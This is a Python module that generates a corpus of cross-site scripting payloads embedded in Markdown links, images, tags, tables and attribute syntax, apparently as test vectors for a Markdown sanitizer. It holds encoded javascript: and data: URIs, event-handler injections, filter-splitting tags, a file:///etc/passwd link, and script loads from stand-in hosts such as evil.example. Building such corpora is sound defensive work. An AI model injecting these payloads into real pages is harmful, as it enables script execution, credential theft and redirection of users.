"""Over two hundred ways to smuggle something active into a page, as lines of Markdown."""

SCRIPTS = ("alert(1)", "top.location='//e.example'")
SCHEMES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript:%61lert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    "view-source:javascript:alert(1)",
    "blob:https://e.example/1",
    "feed:javascript:alert(1)",
    'https://e.example/" onmouseover="alert(1)',
    "https://e.example/' onmouseover='alert(1)",
    "https://e.example/`onmouseover=alert(1)",
    'mailto:a@b.example" onclick="alert(1)',
    '#" onclick="alert(1)',
    "#x><img src=x onerror=alert(1)>",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]({} 'title')",
    "[![x]({})](https://e.example)",
    "*[x]({})*",
)
TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<style>@import '//e.example/x.css';</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//e.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</article></body><script>alert(1)</script>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "{{7*7}}<script>alert(1)</script>",
)
FRAMES = (
    "{}",
    "- {}",
    "1.1 {}",
    "## {}",
    "> {}",
    "| a | b |\n| - | - |\n| {} | x |",
    "x[^1]\n\n[^1]: {}",
)
ATTRIBUTES = (
    "word {: onclick=alert(1) }",
    "## Heading {: onclick=alert(1) }",
    '## Heading {#x" onclick="alert(1)}',
    "*word*{: style=position:fixed }",
    "[x](https://e.example){: target=_top onclick=alert(1) }",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "Term\n: <script>alert(1)</script>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "\\<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
)


def vectors() -> list[str]:
    links = [link.format(scheme) for scheme in SCHEMES for link in LINKS]
    tags = [FRAMES[at % len(FRAMES)].format(tag) for at, tag in enumerate(TAGS)]
    framed = [frame.format(tag) for frame in FRAMES for tag in TAGS[:4]]
    return sorted({v for v in (*links, *tags, *framed, *ATTRIBUTES) if "\t" not in v})
